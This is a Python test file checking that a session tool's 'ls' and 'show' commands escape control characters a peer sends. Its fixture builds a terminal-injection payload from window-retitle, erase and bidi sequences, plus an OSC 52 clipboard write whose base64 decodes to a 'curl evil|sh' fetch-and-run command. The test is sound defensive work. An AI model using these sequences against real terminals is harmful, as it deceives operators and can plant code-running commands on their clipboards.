"""What a peer writes into a session (its title, its ``user_id`` without auth, its
messages) reaches an operator's terminal through ``bamboo-session ls`` and ``show``:
a terminal acts on the control characters in it. An escape sequence there retitled the
window (OSC 0), recoloured or erased what was printed before it (CSI), a carriage
return overwrote the start of its line, so a peer could make a listing lie, or, in the
terminals that allow it, write the operator's clipboard (OSC 52). The human output now
shows every control character as a visible escape (``\\x1b``), keeping only the line
breaks and tabs of a message's text. ``--json`` escapes them as JSON does (``\\u009b``):
JSON's encoders escape C0 controls, but wrote DEL, the C1 controls (``\\x9b``, a CSI
of its own) and the bidi ones as they are.

Against a real server, the session made by a real WebSocket peer, the commands run as
processes over HTTP and on the data directory."""

from __future__ import annotations

import json
from pathlib import Path

from websockets.asyncio.client import connect

from tests.support import run_server, stream_url
from tests.test_cli_tools import cli

# The bidi controls and marks, the byte order mark and the line and paragraph
# separators: invisible, they reorder or break what a terminal shows around them.
INVISIBLE = "\u202a\u202e\u2066\u2069\u200e\u200f\u061c\ufeff\u2028\u2029"
ESCAPES = "\x1b]0;owned\x07\x1b[2K\r\x1b]52;c;Y3VybCBldmlsfHNo\x07\x9b31m\x7f" + INVISIBLE
TITLE = "Quarterly report" + ESCAPES
USER = "mallory" + ESCAPES[:9]
CONTENT = "line one\n\tline two" + ESCAPES


async def made_by_a_peer(server: object) -> None:
    async with connect(stream_url(server, "hostile")) as ws:  # type: ignore[arg-type]
        hello = {"type": "hello", "create": True, "title": TITLE, "user_id": USER}
        await ws.send(json.dumps(hello))
        assert json.loads(await ws.recv())["type"] == "welcome"
        message = {"role": "user", "content": CONTENT}
        await ws.send(json.dumps({"type": "message", "id": 1, "message": message}))
        assert json.loads(await ws.recv())["type"] == "ack"


def assert_shown_not_acted_on(out: str) -> None:
    controls = [c for c in out if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) < 0xA0]
    assert controls == [], out
    assert [c for c in out if c in INVISIBLE] == []
    assert "\\x1b]0;owned\\x07\\x1b[2K\\x0d" in out  # shown, for the operator to see
    assert "\\x7f\\u202a\\u202e\\u2066\\u2069\\u200e\\u200f\\u061c\\ufeff\\u2028\\u2029" in out


async def test_ls_and_show_print_no_control_character_a_peer_sent(tmp_path: Path) -> None:
    data = tmp_path / "data"
    async with run_server(data, durability="os") as server:
        await made_by_a_peer(server)
        url = f"http://127.0.0.1:{server.port}"
        for argv in (("ls", "--url", url), ("ls", "--data-dir", str(data))):
            code, out, err = await cli(*argv)
            assert code == 0, err
            assert_shown_not_acted_on(out)
            assert "Quarterly report" in out and "mallory" in out
            # One row for the one session: the table's lines are its own.
            assert len([line for line in out.splitlines() if "hostile" in line]) == 1
        code, out, err = await cli("show", "hostile", "--url", url)
        assert code == 0, err
        assert_shown_not_acted_on(out)
        # A message's own line breaks and tabs are kept: its text as written.
        assert "line one\n\tline two" in out
        code, out, err = await cli("show", "hostile", "--url", url, "--json")
        assert code == 0, err
        assert json.loads(out)["metadata"]["title"] == TITLE  # the data itself, untouched
        assert_json_shown(out)
        for argv in (("ls", "--url", url, "--json"), ("ls", "--data-dir", str(data), "--json")):
            code, out, err = await cli(*argv)
            assert code == 0, err
            assert json.loads(out)["sessions"][0]["title"] == TITLE
            assert_json_shown(out)


def assert_json_shown(out: str) -> None:
    """No control character in ``--json``'s output but its last line break: each in
    the data is an escape of JSON's (``\\u001b``, ``\\u009b``, ``\\u202e``)."""
    controls = [c for c in out.rstrip("\n") if ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0]
    assert controls == [], out
    assert [c for c in out if c in INVISIBLE] == []
    assert "\\u009b31m\\u007f\\u202a\\u202e\\u2066\\u2069\\u200e\\u200f\\u061c" in out
    assert "\\u061c\\ufeff\\u2028\\u2029" in out
